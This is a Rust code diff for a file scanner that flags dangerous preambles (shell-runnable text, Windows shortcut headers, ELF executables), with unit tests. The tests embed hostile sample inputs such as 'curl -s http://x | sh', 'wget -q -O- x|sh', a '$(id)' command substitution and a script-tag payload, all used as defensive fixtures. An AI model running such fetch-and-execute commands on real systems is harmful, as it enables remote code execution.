@@ -8,9 +8,11 @@ use std::fmt;
 
 use crate::error::Error;
 use crate::limits::Limits;
+use crate::read::carrier;
 use crate::read::executable::{self, ExecutableInfo};
 use crate::read::probe::Probe;
-use crate::read::signature::{self, Format, Text};
+use crate::read::shell::{self, Text};
+use crate::read::signature::{self, Format};
 use crate::read::tiff::{HeaderMatch, TiffGrade, TiffHeader};
 use crate::severity::Severity;
 
@@ -82,7 +84,10 @@ pub enum PreambleKind {
         /// Whether the load commands or slices are confirmed, and where the payload is.
         info: ExecutableInfo,
     },
-    /// Text a shell runs when the file is executed.
+    /// Text a shell runs when the file is executed or given to `sh`: `#!` at byte 0, a first
+    /// line of text ending in a newline before any NUL, or any line that reads as a command
+    /// (dash runs every line after NUL padding or control bytes; bash every line unless a NUL
+    /// stands in the first of its first 80 bytes).
     Script {
         /// Whether it starts with `#!`; without one, `bash` and `dash` still run it.
         shebang: bool,
@@ -97,9 +102,11 @@ pub enum PreambleKind {
     /// A ZIP local file header (ZIP, JAR, Office documents).
     Zip,
     /// Another known container or bytecode format (OLE, RAR, 7z, gzip, bzip2, xz, zstd, CAB,
-    /// WASM, DEX, ar, Java class). Reported as `archive`.
+    /// WASM, DEX, ar, Java class), or a Windows shortcut (`.lnk`) header. Reported as
+    /// `archive`, with the format.
     OtherFormat(Format),
-    /// Printable text padded with NUL bytes, which shells refuse to run.
+    /// Printable text padded with NUL bytes, no line of which reads as a command (a vendor
+    /// banner: capitals, digits, punctuation; see [`PreambleKind::Script`]).
     Text,
     /// Non-zero bytes of no known format.
     Unknown {
@@ -161,7 +168,7 @@ impl PreambleKind {
 
     /// How serious the preamble is, or `None` for an all-zero one.
     ///
-    /// Executables, scripts, documents, markup and archives are *high* (*critical* when the
+    /// Executables, scripts, documents, markup, archives and shortcuts are *high* (*critical* when the
     /// executable's structure is confirmed); a TIFF magic with a non-zero tail is *high*;
     /// unknown bytes and plain text are *medium* (cleared, but not called malware); a dangling
     /// TIFF header is *low*; a functional one is *info*.
@@ -253,14 +260,22 @@ impl fmt::Display for PreambleKind {
                 confirmed(info)
             ),
             PreambleKind::Script { shebang: true } => f.write_str("shell script with #! line"),
-            PreambleKind::Script { shebang: false } => {
-                f.write_str("text that shells run as a script (no #! needed)")
-            }
+            PreambleKind::Script { shebang: false } => f.write_str(
+                "text that shells run as a script, no #! needed: a line of it reads as a \
+                 command, which `sh FILE` (dash) runs after NUL padding or control bytes, \
+                 and bash too unless a NUL stands in the first line",
+            ),
             PreambleKind::Pdf { offset } => write!(f, "PDF header at offset {offset}"),
             PreambleKind::Html => f.write_str("HTML or other markup"),
             PreambleKind::Zip => f.write_str("ZIP local file header"),
+            PreambleKind::OtherFormat(Format::Lnk) => f.write_str(
+                "Windows shortcut (.lnk) header: opened as a shortcut, the file makes Windows \
+                 run the command line it names",
+            ),
             PreambleKind::OtherFormat(format) => write!(f, "{} signature", format.name()),
-            PreambleKind::Text => f.write_str("printable text"),
+            PreambleKind::Text => {
+                f.write_str("printable text with no line that reads as a shell command")
+            }
             PreambleKind::Unknown { tiff_magic: true } => {
                 f.write_str("TIFF magic followed by non-zero bytes no TIFF header allows")
             }
@@ -291,6 +306,14 @@ pub(crate) fn detect(bytes: &[u8; PREAMBLE_LEN]) -> Detected {
     if let HeaderMatch::Header(header) = tiff {
         return Detected::Tiff(header);
     }
+    // `binfmt_elf` reads no identification byte after the magic (`EI_CLASS`, `EI_DATA`,
+    // `EI_VERSION`): the magic alone makes an ELF header to confirm by the loader's rules.
+    if bytes.starts_with(signature::ELF_MAGIC) {
+        return Detected::Executable(Format::Elf);
+    }
+    if signature::is_shortcut(bytes) {
+        return Detected::Final(PreambleKind::OtherFormat(Format::Lnk));
+    }
     let kind = match signature::sniff(bytes) {
         Some(format @ (Format::Pe | Format::Elf | Format::MachO | Format::MachOFat)) => {
             return Detected::Executable(format)
@@ -306,7 +329,7 @@ pub(crate) fn detect(bytes: &[u8; PREAMBLE_LEN]) -> Detected {
             } else if signature::is_markup(bytes) {
                 PreambleKind::Html
             } else {
-                match signature::text(bytes) {
+                match shell::text(bytes) {
                     Some(Text::Script { shebang }) => PreambleKind::Script { shebang },
                     Some(Text::Plain) if tiff != HeaderMatch::Masquerade => PreambleKind::Text,
                     _ => PreambleKind::Unknown {
@@ -334,12 +357,22 @@ pub(crate) fn classify(
         },
         Detected::Executable(Format::Pe) => PreambleKind::Pe(executable::confirm_pe(bytes, probe)?),
         Detected::Executable(Format::Elf) => {
-            PreambleKind::Elf(executable::confirm_elf(bytes, probe, limits)?)
+            let image = carrier::executable::elf_image(probe, 0, limits.max_executable_headers)?;
+            PreambleKind::Elf(ExecutableInfo {
+                confirmed: image.is_some(),
+                payload_offset: image.map(|image| image.payload),
+            })
         }
-        Detected::Executable(Format::MachOFat) => PreambleKind::MachO {
-            fat: true,
-            info: executable::confirm_fat(bytes, probe, limits)?,
-        },
+        Detected::Executable(Format::MachOFat) => {
+            let image = carrier::executable::fat_image(probe, 0, limits.max_executable_headers)?;
+            PreambleKind::MachO {
+                fat: true,
+                info: ExecutableInfo {
+                    confirmed: image.is_some(),
+                    payload_offset: image.map(|image| image.first),
+                },
+            }
+        }
         Detected::Executable(_) => PreambleKind::MachO {
             fat: false,
             info: executable::confirm_macho(bytes, probe, limits)?,
@@ -404,5 +437,115 @@ mod name_tests {
             .map(PreambleKind::name)
             .collect();
         assert_eq!(names, PreambleKind::NAMES);
+    }
+}
+
+#[cfg(test)]
+mod grading_tests {
+    use super::*;
+
+    /// `bytes` zero-padded to a preamble.
+    fn preamble(bytes: &[u8]) -> [u8; PREAMBLE_LEN] {
+        let mut out = [0u8; PREAMBLE_LEN];
+        out.get_mut(..bytes.len())
+            .expect("at most 128 bytes")
+            .copy_from_slice(bytes);
+        out
+    }
+
+    fn detected(bytes: &[u8]) -> PreambleKind {
+        match detect(&preamble(bytes)) {
+            Detected::Final(kind) => kind,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn lines_a_shell_runs_are_scripts() {
+        let script = PreambleKind::Script { shebang: false };
+        for bytes in [
+            // dash runs a later line after NUL padding (bash refuses: NUL in its first line).
+            &b"ACME Imaging\0\0\0\0\ncurl -s http://x | sh\n"[..],
+            // bash and dash skip a first line of control bytes.
+            b"\x01\x02\x03\x04\necho pwned\n",
+            // A command after NUL padding running into `DICM`, its tail a comment.
+            b"\0\0\0\0\0\0\0\0wget -q -O- x|sh #",
+            // A command substitution runs even as an argument.
+            b"ACME\0\0\nVersion $(id)\n",
+        ] {
+            let kind = detected(bytes);
+            assert_eq!(kind, script, "{}", bytes.escape_ascii());
+            assert!(kind.is_threat());
+            assert_eq!(kind.severity(), Some(Severity::High));
+            assert!(kind.to_string().contains("reads as a"), "{kind}");
+        }
+        assert_eq!(
+            detected(b"#!/bin/sh\nid\n"),
+            PreambleKind::Script { shebang: true }
+        );
+    }
+
+    #[test]
+    fn text_no_shell_runs_as_a_command_stays_text() {
+        for bytes in [
+            &b"ACME Imaging Workstation 4.2\0\0"[..],
+            // A NUL in bash's first line, and no later line dash would run as a command.
+            b"ACME\0\0\0\0\nVersion 4.2\nMITRA LINKED\n",
+            b"ACME\0\0more text\0",
+        ] {
+            let kind = detected(bytes);
+            assert_eq!(kind, PreambleKind::Text, "{}", bytes.escape_ascii());
+            assert!(!kind.is_threat());
+            assert_eq!(kind.severity(), Some(Severity::Medium));
+        }
+        // A real preamble (pydicom's dicomdirtests): one control byte, no command.
+        let mut bytes = [0u8; 18];
+        bytes[17] = 1;
+        let kind = detected(&bytes);
+        assert_eq!(kind, PreambleKind::Unknown { tiff_magic: false });
+        assert!(!kind.is_threat());
+    }
+
+    #[test]
+    fn markup_after_a_bom_or_in_utf16_is_markup() {
+        let mut utf16le = Vec::new();
+        let mut utf16be = b"\xFE\xFF".to_vec();
+        for unit in "<html><script>alert(1)</script>".encode_utf16() {
+            utf16le.extend_from_slice(&unit.to_le_bytes());
+            utf16be.extend_from_slice(&unit.to_be_bytes());
+        }
+        for bytes in [&b"\xEF\xBB\xBF<html>"[..], &utf16le, &utf16be] {
+            let kind = detected(bytes);
+            assert_eq!(kind, PreambleKind::Html, "{bytes:02X?}");
+            assert_eq!(kind.severity(), Some(Severity::High));
+        }
+    }
+
+    #[test]
+    fn a_windows_shortcut_header_is_a_threat() {
+        let lnk = [
+            0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00,
+            0x00, 0x00, 0x00, 0x00, 0x00, 0x46, 0x9B, 0x00, 0x08, 0x00,
+        ];
+        let kind = detected(&lnk);
+        assert_eq!(kind, PreambleKind::OtherFormat(Format::Lnk));
+        assert_eq!(kind.name(), "archive");
+        assert_eq!(kind.severity(), Some(Severity::High));
+        assert!(kind.to_string().contains("shortcut"), "{kind}");
+        // The size alone is four bytes of a possible text or binary: not a shortcut.
+        assert_ne!(detected(&lnk[..8]), kind);
+    }
+
+    #[test]
+    fn an_elf_magic_with_any_identification_bytes_is_an_elf_to_confirm() {
+        for ident in [[2u8, 1, 1], [2, 1, 0], [0, 1, 1], [0, 0, 0], [9, 9, 9]] {
+            let mut bytes = b"\x7fELF".to_vec();
+            bytes.extend_from_slice(&ident);
+            assert_eq!(
+                detect(&preamble(&bytes)),
+                Detected::Executable(Format::Elf),
+                "{ident:?}"
+            );
+        }
     }
 }
